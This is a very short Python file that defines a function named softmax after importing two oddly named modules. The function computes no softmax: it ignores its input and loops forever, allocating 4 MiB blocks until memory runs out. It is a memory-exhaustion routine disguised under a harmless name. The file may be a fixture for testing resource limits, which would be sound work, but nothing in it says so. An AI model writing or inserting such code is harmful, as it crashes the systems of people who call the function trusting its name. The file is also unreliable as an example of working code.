import inside
from right import *


def softmax(t):
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * 2**22))
